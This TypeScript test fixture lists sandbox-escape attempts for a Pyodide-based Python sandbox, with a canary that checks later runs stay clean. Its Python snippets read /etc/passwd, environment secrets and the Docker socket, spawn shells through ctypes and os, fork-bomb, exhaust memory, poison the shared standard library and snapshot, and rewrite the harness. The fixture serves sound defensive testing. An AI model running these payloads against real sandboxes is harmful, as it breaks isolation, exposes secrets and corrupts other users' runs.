/**
 * Code that tries to leave the sandbox, use up the machine, or reach the next run. Each prints `ESCAPED` with
 * what it got. `FILE` is a file of the host with a secret, `PORT` a server on the host that counts connections.
 */
export interface Escape {
  readonly name: string;
  readonly code: string;
  /** Never ends by itself. */
  readonly isEndless?: boolean;
}

const found = (expression: string): string => `print('ESCAPED', ${expression})`;

/** Looks for the real globals through any JavaScript object. */
const THROUGH_OBJECT = `
def globals_of(value):
    made = value.constructor.constructor('return this')()
    print('ESCAPED', made.process or made.require or made.fetch)
`;

/** A WebAssembly library that calls the constructor of all JavaScript objects: `Object(5)`. */
const LIBRARY = `
import ctypes
def sized(data): return bytes([len(data)]) + data
def text(data): return sized(data.encode())
def section(number, data): return bytes([number]) + sized(data)
parts = [
    section(0, text('dylink.0') + b'\\x01\\x04\\0\\0\\0\\0'),
    section(1, b'\\x02\\x60\\x01\\x7f\\x01\\x6f\\x60\\x00\\x01\\x7f'),
    section(2, b'\\x01' + text('env') + text('constructor') + b'\\0\\0'),
    section(3, b'\\x01\\x01'),
    section(7, b'\\x01' + text('go') + b'\\0\\x01'),
    section(10, b'\\x01' + sized(b'\\0\\x41\\x05\\x10\\x00\\x1a\\x41\\x2a\\x0b')),
]
with open('/tmp/own.so', 'wb') as file:
    file.write(b'\\0asm\\x01\\0\\0\\0' + b''.join(parts))`;

/** Restores the bridge, and reaches Pyodide's own functions: the number in a proxy says which object it stands for. */
const THROUGH_NUMBERS = `
import sys, ctypes, struct, asyncio
for name in ('pyodide', '_pyodide', '_pyodide_core'): sys.modules.pop(name, None)
import _pyodide, _pyodide_core as core
asyncio.set_event_loop(asyncio.new_event_loop())
def numbered(index):
    proxy = core.to_js([1])
    ctypes.memmove(id(proxy) + 36, struct.pack('<I', index), 4)
    return proxy
api, public = numbered(7), numbered(5)
Array = core.to_js([1]).constructor
Object = Array.prototype.__proto__.constructor
one = Object.fromEntries(core.to_js([['length', 1]]))
kept = []
def called(function):
    kept.append(core.create_proxy(function))
    return kept[-1]
def promise(function): return getattr(Array, 'from')(one, function)[0]
def endless(*_):
    while True: pass
`;

const SPARE = '/lib/python3.14/site-packages/tallied/spare.so';

/** With the packages of `compiledWheels.ts`. */
export const LIBRARY_ESCAPES: readonly Escape[] = [
  {
    name: 'a library that the code writes',
    code: `import tallied\n${LIBRARY}\n${found("ctypes.CDLL('/tmp/own.so').go()")}`,
  },
  {
    name: 'a library written over one of a package',
    code: `import tallied, shutil\n${LIBRARY}\nshutil.copy('/tmp/own.so', '${SPARE}')\n${found(`ctypes.CDLL('${SPARE}').go()`)}`,
  },
  {
    name: 'code appended to a library of a package',
    code: `import tallied\n${LIBRARY}\nopen('${SPARE}', 'ab').write(b''.join(parts[1:]))\n${found(`ctypes.CDLL('${SPARE}').power(2, 10)`)}`,
  },
  {
    name: 'a library of a package changed in place',
    code: `import tallied, ctypes\nwith open('${SPARE}', 'r+b') as file:\n    file.seek(30)\n    file.write(b'x')\n${found(`ctypes.CDLL('${SPARE}').power(2, 10)`)}`,
  },
  ...['constructor', '__proto__', 'emscripten_run_script'].map((name) => ({
    name: `a function that a library of a package does not have: ${name}`,
    code: `import tallied, ctypes\nlibrary = ctypes.CDLL('${SPARE}')\nassert library.power(2, 10) == 1024\n${found(`library['${name}']`)}`,
  })),
  {
    name: 'JavaScript by a module that was imported before the code',
    code: `import tallied.keeps\nif tallied.keeps.js: ${found('tallied.keeps.js')}`,
  },
];

export const ESCAPES: readonly Escape[] = [
  {
    name: 'the network by a function of Pyodide that imports modules of Node',
    code: `${THROUGH_NUMBERS}
def ready(*_):
    socket = public._module.FS.filesystems.NODESOCKFS.createSocket(2, 1, 6)
    promise(api._nodeSock.connect.bind(None, socket.stream.fd, '127.0.0.1', PORT))
promise(api.initializeNodeSockFS).then(called(ready))`,
  },
  {
    name: 'the memory that later interpreters start from',
    code: `${THROUGH_NUMBERS}
memory = api.config._loadSnapshot
found, pi = bytes(memory.to_py()), struct.pack('<d', 3.141592653589793)
at = found.find(pi)
while at >= 0:
    memory.set(core.to_js(struct.pack('<d', 4.0)), at)
    at = found.find(pi, at + 1)`,
  },
  {
    name: 'the standard library that later interpreters import',
    // The place of a module that no snapshot has, so that only its first import sees the change.
    code: `${THROUGH_NUMBERS}
import zipimport, zlib
path = '/lib/python314.zip'
[(name, entry)] = [(name, entry) for name, entry in zipimport._zip_directory_cache[path].items() if name.startswith('fractions.py')]
source = b'class Fraction:\\n    def __init__(self, *_): pass\\n    def __mul__(self, _): return 2\\n'
if name.endswith('c'):
    import importlib.util, marshal
    source = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(source, name, 'exec'))
packer = zlib.compressobj(9, zlib.DEFLATED, -15)
body = packer.compress(source) + packer.flush() if entry[1] else source
with open(path, 'rb') as file:
    file.seek(entry[4] + 26)
    start = entry[4] + 30 + sum(struct.unpack('<HH', file.read(4)))
def got(view, *_): view.set(core.to_js(list(body.ljust(entry[2], b'\\0'))), start)
promise(api.loadBinaryFile.bind(None, '/python_stdlib.zip')).then(called(got))`,
  },
  {
    name: 'the standard library, taken away from later interpreters',
    code: `${THROUGH_NUMBERS}
def got(view, *_): view.buffer.transfer(10)
promise(api.loadBinaryFile.bind(None, '/python_stdlib.zip')).then(called(got))`,
  },
  {
    name: 'more output, by an object that lies about its length',
    code: `${THROUGH_NUMBERS}
part = core.to_js(b'x')
forged = Object.fromEntries(core.to_js([['length', -10**12], ['slice', called(lambda *_: part)]]))
try: public._module.FS.getStream(1).devops.write(forged)
except Exception: pass
for _ in range(3): print('y' * 1_000_000)`,
  },
  {
    name: 'more output, by bytes with a length of their own',
    code: `${THROUGH_NUMBERS}
part = core.to_js(b'x')
for name in ('length', 'byteLength'):
    value = Object.fromEntries(core.to_js([['value', -10**12]]))
    Object.defineProperty(part, name, value)
try: public._module.FS.getStream(1).devops.write(part)
except Exception: pass
for _ in range(3): print('y' * 1_000_000)`,
  },
  {
    name: 'memory taken after its answer',
    code: `${THROUGH_NUMBERS}
Bytes, parts = core.to_js(b'x').constructor, []
def later(*_):
    for _ in range(16):
        parts.append(Bytes.new(100 * 10**6))
        parts[-1].fill(1)
    api.scheduleCallback(called(later), 2**31 - 1)
promise(Array.fromAsync.bind(None, core.to_js([]))).then(called(later))`,
  },
  {
    name: 'a getter of how many frames errors have',
    code: `${THROUGH_NUMBERS}
errors = api.errorConstructors.get('RangeError').__proto__
getter = Object.fromEntries(core.to_js([['get', called(lambda *_: 10)], ['configurable', True]]))
Object.defineProperty(errors, 'stackTraceLimit', getter)
${found("'replaced'")}`,
  },
  // These objects are shared by all interpreters.
  ...[
    ['the decoder of output', 'public._module.UTF8Decoder.__proto__', 'decode'],
    ['a method of all typed arrays', 'public._module.HEAPU8.__proto__.__proto__', 'slice'],
    ['a method of all objects', 'Array.prototype.__proto__', 'hasOwnProperty'],
    [
      'how errors print their stack',
      'api.errorConstructors.get("RangeError").__proto__',
      'prepareStackTrace',
    ],
    ['a method of all errors', 'api.errorConstructors.get("RangeError").__proto__.prototype', 'toString'],
    ['how lists are iterated', 'getattr(core.to_js([1]), "values")().__proto__', 'next'],
    ['how memory grows', 'public._module.memory.__proto__', 'grow'],
    ['where Pyodide believes to run', 'api.runtimeEnv', 'IN_NODE'],
    ['a method of all functions', 'api.scheduleCallback.__proto__', 'toString'],
  ].map(([name, object, method]) => ({
    name: `${name}, replaced`,
    // Restored at once, because the code needs it for its own answer.
    code: `${THROUGH_NUMBERS}
shared, name = ${object}, '${method}'
own = getattr(shared, name, None)
setattr(shared, name, called(lambda *_: 'forged'))
setattr(shared, name, own)
${found("'replaced'")}`,
  })),
  {
    name: 'code that is scheduled for after its answer',
    code: `${THROUGH_NUMBERS}\napi.scheduleCallback(called(endless), 0)`,
  },
  {
    name: 'a promise that never ends after its answer',
    code: `${THROUGH_NUMBERS}\npromise(Array.fromAsync.bind(None, core.to_js([]))).then(called(endless))`,
  },
  // The bridge to JavaScript
  { name: 'module js', code: `import js\n${found('js.globalThis')}` },
  {
    name: 'module js by importlib',
    code: `import importlib\n${found("importlib.import_module('js').process")}`,
  },
  { name: 'module pyodide_js', code: `import pyodide_js\n${found('pyodide_js._module')}` },
  {
    name: 'module pyodide',
    code: `from pyodide.code import run_js\n${found("run_js('globalThis.process')")}`,
  },
  { name: 'module pyodide.ffi', code: `from pyodide.ffi import to_js, JsProxy\n${found('to_js([1])')}` },
  {
    name: 'module pyodide.http',
    code: `from pyodide.http import open_url\n${found("open_url('http://127.0.0.1:PORT/').read()")}`,
  },
  { name: 'module _pyodide_core', code: `import _pyodide_core\n${found('dir(_pyodide_core)')}` },
  {
    name: 'module _pyodide',
    code: `import _pyodide._importhook as hook\n${found('hook.jsfinder.jsproxies')}`,
  },
  {
    name: 'builtin module _pyodide_core',
    code: `import _imp, importlib.machinery as m\nspec = m.BuiltinImporter.find_spec('_pyodide_core')\nmodule = m.BuiltinImporter.create_module(spec)\n${THROUGH_OBJECT}\nglobals_of(module.to_js([1]))`,
  },
  { name: 'micropip', code: `import micropip\n${found("micropip.install('http://127.0.0.1:PORT/a.whl')")}` },
  {
    name: 'JavaScript objects found by the garbage collector',
    code: `import gc\n${THROUGH_OBJECT}\nfor one in gc.get_objects():\n    if 'JsProxy' in [each.__name__ for each in type(one).__mro__]:\n        try:\n            globals_of(one)\n        except Exception:\n            pass`,
  },
  {
    name: 'modules found by the garbage collector',
    code: `import gc, types\nfor one in gc.get_objects():\n    if isinstance(one, types.ModuleType) and one.__name__ in ('js', 'pyodide_js'):\n        try:\n            print('ESCAPED', one.process or one._module)\n        except AttributeError:\n            pass`,
  },
  {
    name: 'functions found by the garbage collector',
    code: `import gc, types\nfor one in gc.get_objects():\n    if isinstance(one, types.FunctionType) and one.__name__ == 'run_js':\n        print('ESCAPED', one('globalThis.process.pid'))`,
  },
  {
    name: 'loaders kept in sys',
    code: `import sys\nfor path in list(sys.path_importer_cache.values()) + sys.meta_path:\n    proxies = getattr(path, 'jsproxies', None)\n    if proxies:\n        print('ESCAPED', proxies)`,
  },
  {
    name: 'frames outside the code',
    code: `import sys\nframe = sys._getframe()\nwhile frame:\n    for value in {**frame.f_globals, **frame.f_locals}.values():\n        if type(value).__name__ == 'JsProxy':\n            print('ESCAPED', value.constructor.constructor('return process')())\n    frame = frame.f_back`,
  },
  // Calls into WebAssembly
  {
    name: 'ctypes: system',
    code: `import ctypes\ncode = ctypes.CDLL(None).system(b'touch FILE.made')\nif code == 0: ${found('code')}`,
  },
  {
    name: 'ctypes: emscripten_run_script',
    code: `import ctypes\nrun = ctypes.CDLL(None).emscripten_run_script_string\nrun.restype = ctypes.c_char_p\n${found("run(b'String(process.pid)')")}`,
  },
  {
    name: 'ctypes: emscripten_run_script_int',
    code: `import ctypes\nprint('ESCAPED', ctypes.CDLL(None).emscripten_run_script_int(b'6*7'))`,
  },
  {
    name: 'ctypes: execve',
    code: `import ctypes\nif ctypes.CDLL(None).execl(b'/bin/sh', b'sh', b'-c', b'touch FILE.made', None) == 0: ${found("'exec'")}`,
  },
  {
    name: 'ctypes: wild pointer',
    code: `import ctypes\nprint(ctypes.string_at(2**31 + 2**30, 64))\nctypes.memset(0, 255, 2**30)`,
  },
  {
    name: 'ctypes: library of the host',
    code: `import ctypes\nlib = ctypes.CDLL('/lib/x86_64-linux-gnu/libc.so.6')\n${found('lib.getpid()')}`,
  },
  {
    name: 'ctypes: a library that the code writes',
    code: `${LIBRARY}\n${found("ctypes.CDLL('/tmp/own.so').go()")}`,
  },
  // Processes
  { name: 'os.system', code: `import os\nif os.system('touch FILE.made') == 0: ${found("'system'")}` },
  { name: 'os.popen', code: `import os\n${found("os.popen('id').read()")}` },
  { name: 'subprocess', code: `import subprocess\n${found("subprocess.check_output(['id'])")}` },
  { name: 'os.execv', code: `import os\nos.execv('/bin/sh', ['sh', '-c', 'touch FILE.made'])` },
  {
    name: 'os.posix_spawn',
    code: `import os\n${found("os.posix_spawn('/bin/sh', ['sh', '-c', 'touch FILE.made'], {})")}`,
  },
  { name: 'pty.spawn', code: `import pty\n${found("pty.spawn('/bin/sh')")}` },
  { name: 'fork bomb', code: `import os\nwhile True:\n    os.fork()\n    print('ESCAPED')` },
  {
    name: 'multiprocessing',
    code: `import multiprocessing\nwith multiprocessing.Pool(4) as pool:\n    ${found('pool.map(abs, [1])')}`,
  },
  {
    name: 'threads',
    code: `import threading\nfor _ in range(100):\n    threading.Thread(target=lambda: print('ESCAPED')).start()`,
  },
  { name: 'killing the parent', code: `import os\nos.kill(os.getppid(), 9)\nos.kill(-1, 9)` },
  {
    name: 'signal',
    code: `import signal, os\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nsignal.raise_signal(signal.SIGKILL)`,
  },
  // The network
  {
    name: 'socket',
    code: `import socket\nsock = socket.create_connection(('127.0.0.1', PORT), 2)\nsock.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n${found('sock.recv(100)')}`,
  },
  {
    name: 'a unix socket',
    code: `import socket\nsock = socket.socket(socket.AF_UNIX)\nsock.connect('/var/run/docker.sock')\n${found("'connected'")}`,
  },
  {
    name: 'urllib',
    code: `import urllib.request\n${found("urllib.request.urlopen('http://127.0.0.1:PORT/').read()")}`,
  },
  {
    name: 'http.client',
    code: `import http.client\nclient = http.client.HTTPConnection('127.0.0.1', PORT)\nclient.request('GET', '/')\n${found('client.getresponse().read()')}`,
  },
  {
    name: 'a server',
    code: `import http.server\nserver = http.server.HTTPServer(('127.0.0.1', 0), http.server.BaseHTTPRequestHandler)\nserver.timeout = 0.1\nserver.handle_request()`,
  },
  { name: 'names', code: `import socket\nprint(socket.getaddrinfo('localhost', PORT))` },
  {
    name: 'asyncio connection',
    code: `import asyncio\nasync def main():\n    reader, _ = await asyncio.open_connection('127.0.0.1', PORT)\n    print('ESCAPED', await reader.read(10))\nasyncio.run(main())`,
  },
  {
    name: 'webbrowser',
    code: `import webbrowser\nif webbrowser.open('http://127.0.0.1:PORT/'): ${found("'opened'")}`,
  },
  {
    name: 'file URL',
    code: `import urllib.request\n${found("urllib.request.urlopen('file://FILE').read()")}`,
  },
  // Files of the host
  { name: 'a file of the host', code: found("open('FILE').read()") },
  { name: '/etc/passwd', code: found("open('/etc/passwd').read()") },
  { name: '/proc/self/environ', code: found("open('/proc/self/environ').read()") },
  { name: '/proc/self/maps', code: found("open('/proc/self/maps').read()") },
  {
    name: 'descriptors',
    code: `import os\nfor number in range(3, 64):\n    try:\n        print('ESCAPED', os.read(number, 100))\n    except OSError:\n        pass`,
  },
  {
    name: 'writing a file of the host',
    code: `open('FILE.made', 'w').write('x')\nimport os\nos.makedirs(os.path.dirname('FILE'), exist_ok=True)\nopen('FILE.made', 'w').write('x')`,
  },
  {
    name: 'mounting the host',
    code: `import ctypes\nlibc = ctypes.CDLL(None)\nif libc.mount(b'/', b'/mnt', b'NODEFS', 0, None) == 0: ${found("'mounted'")}`,
  },
  {
    name: 'the environment',
    code: `import os\nif 'TURNWISE_SECRET' in os.environ or 'PATH' in os.environ and 'node' in os.environ['PATH']: ${found('dict(os.environ)')}`,
  },
  {
    name: 'links to the host',
    code: `import os\nos.symlink('FILE', '/tmp/link')\n${found("open('/tmp/link').read()")}`,
  },
  // Limits
  { name: 'endless loop', code: 'while True: pass', isEndless: true },
  {
    name: 'endless loop that catches everything',
    code: 'while True:\n    try:\n        while True: pass\n    except BaseException: pass',
    isEndless: true,
  },
  { name: 'endless loop in C', code: 'x = 9 ** 9 ** 9', isEndless: true },
  { name: 'endless sleep', code: 'import time\ntime.sleep(10**6)', isEndless: true },
  {
    name: 'endless regular expression',
    code: "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
    isEndless: true,
  },
  {
    name: 'endless repr',
    code: 'class Slow:\n    def __repr__(self):\n        while True: pass\nx = Slow()',
    isEndless: true,
  },
  {
    name: 'endless destructor',
    code: 'class Slow:\n    def __del__(self):\n        while True: pass\nx = Slow()\ndel x',
    isEndless: true,
  },
  { name: 'allocation', code: `x = bytearray(10**9)\n${found('len(x)')}` },
  {
    name: 'allocation in pieces',
    code: `parts = []\nwhile len(parts) < 1000:\n    parts.append(bytearray(10**6))\n${found('len(parts)')}`,
  },
  {
    name: 'files in memory',
    code: `with open('/tmp/big', 'wb') as file:\n    for _ in range(30):\n        file.write(bytes(10**8))\n${found("'3 GB'")}`,
  },
  { name: 'recursion', code: 'def f(): return f()\nf()' },
  {
    name: 'recursion without a limit',
    code: 'import sys\nsys.setrecursionlimit(10**9)\ndef f(): return [f()]\nf()',
  },
  {
    name: 'recursion in C',
    code: 'import json\nvalue = []\nfor _ in range(10**6): value = [value]\nrepr(value)\njson.dumps(value)',
  },
  { name: 'nested code', code: "eval('(' * 10**5 + ')' * 10**5)" },
  { name: 'endless output', code: "while True: print('x' * 10**5)", isEndless: true },
  // The end of the interpreter
  { name: 'exit', code: 'exit(3)' },
  { name: 'os._exit', code: 'import os\nos._exit(3)' },
  { name: 'os.abort', code: 'import os\nos.abort()' },
  { name: 'faulthandler', code: 'import faulthandler\nfaulthandler._sigsegv()' },
  { name: 'atexit', code: "import atexit\natexit.register(lambda: print('ESCAPED'))" },
  // The next run
  {
    name: 'builtins',
    code: 'import builtins\nbuiltins.print = lambda *values: None\nbuiltins.len = lambda value: 666\nbuiltins.open = None',
  },
  { name: '__builtins__', code: '__builtins__.sum = lambda values: 666\n__builtins__.__import__ = None' },
  {
    name: 'sys.modules',
    code: "import sys, types\nsys.modules['math'] = types.ModuleType('math')\nsys.modules['json'].dumps = lambda value: '{}'",
  },
  { name: 'sys.meta_path', code: 'import sys\nsys.meta_path.clear()\nsys.path.clear()' },
  {
    name: 'a module on the path',
    code: "open('/lib/python3.14/site-packages/fractions.py', 'w').write('Fraction = None')\nopen('fractions.py', 'w').write('Fraction = None')",
  },
  {
    name: 'the standard library',
    code: "import glob\nfor name in glob.glob('/lib/*.zip'): open(name, 'wb').write(b'')",
  },
  {
    name: 'tracing',
    code: 'import sys\nsys.settrace(lambda *args: None)\nsys.setprofile(lambda *args: None)\nsys.addaudithook(lambda *args: None)',
  },
  { name: 'stdout', code: 'import sys\nsys.stdout = sys.__stdout__ = None\nsys.stdin = None' },
  { name: 'closed stdout', code: 'import os, sys\nos.close(1)\nos.close(2)\nsys.stdout.close()' },
  {
    name: 'the harness',
    code: 'import gc, types\nfor one in gc.get_objects():\n    if isinstance(one, types.FunctionType) and one.__name__ in (\'run\', \'start\', \'described\'):\n        one.__code__ = (lambda *args: \'{"stdout": "ESCAPED", "kind": "done"}\').__code__',
  },
  { name: 'the answer', code: "import json\njson.dumps = lambda value: 'no JSON'" },
  {
    name: 'an answer of another shape',
    code: `import json\njson.dumps = lambda value: '{"variables": [{"name": 5}], "milliseconds": 1}'`,
  },
  {
    name: 'files left behind',
    code: "open('/tmp/left', 'w').write('x')\nopen('/home/left', 'w').write('x')",
  },
  {
    name: 'a function of JavaScript, by a bridge that the code restores',
    code: `import sys\nfor name in ('pyodide', '_pyodide', '_pyodide_core'): sys.modules.pop(name, None)\nimport _pyodide, _pyodide_core as core\nkind = core.to_js([1]).constructor\nkind.prototype.map = core.create_proxy(lambda *values: kind.new())\n${found("'replaced'")}`,
  },
  { name: 'small integers', code: 'import ctypes, sys\naddress = id(7)\nctypes.memset(address + 12, 8, 1)' },
];

/**
 * Attempts with the bridge to JavaScript in place, which the harness removes. They show that the realm behind it
 * has nothing.
 */
export const BRIDGE_ESCAPES: readonly string[] = [
  ...[
    'process',
    'require',
    'module',
    'fetch',
    'WebSocket',
    'Buffer',
    'setImmediate',
    'structuredClone',
    'Worker',
  ].map(
    (name) =>
      `import pyodide_js\nprint('ESCAPED', pyodide_js._module.constructor.constructor('return ${name}')())`,
  ),
  `import js\nprint('ESCAPED', js.eval('1'))`,
  `from pyodide.code import run_js\nprint('ESCAPED', run_js('globalThis'))`,
  `import pyodide_js\nprint('ESCAPED', pyodide_js.loadPackage.constructor('return import("node:fs")')())`,
  `import pyodide_js\nprint('ESCAPED', pyodide_js.loadPackage.bind.constructor('return this')())`,
  `import pyodide_js\npyodide_js.mountNodeFS('/mnt', '/')\nprint('ESCAPED', __import__('os').listdir('/mnt'))`,
  `import pyodide_js\nfs = pyodide_js._module.FS\nfs.mkdir('/mnt')\nfs.mount(fs.filesystems.NODEFS, pyodide_js.toPy({'root': '/'}), '/mnt')\nprint('ESCAPED', __import__('os').listdir('/mnt'))`,
  `import pyodide_js\nfor name in dir(pyodide_js._module):\n    try:\n        one = getattr(pyodide_js._module, name)\n        print('ESCAPED', one.constructor('return 1')())\n    except Exception:\n        pass`,
  `import ctypes\nprint('ESCAPED', ctypes.CDLL(None).emscripten_run_script_int(b'6*7'))`,
];

/** Prints `clean` and nothing else in an interpreter that no other code has changed. */
export const CANARY = `
import builtins, fractions, glob, json, math, os, sys
problems = [
    len([1, 2]) != 2, sum([1, 2]) != 3, math.pi != 3.141592653589793, 3 + 4 != 7,
    json.dumps([1]) != '[1]', fractions.Fraction(1, 2) * 2 != 1,
    glob.glob('/tmp/*') != [], glob.glob('/home/left') != [],
    sys.gettrace() is not None, sys.modules.get('js') is not None, sys.stdin.read() != 'in',
]
print('clean' if not any(problems) else problems)
`;
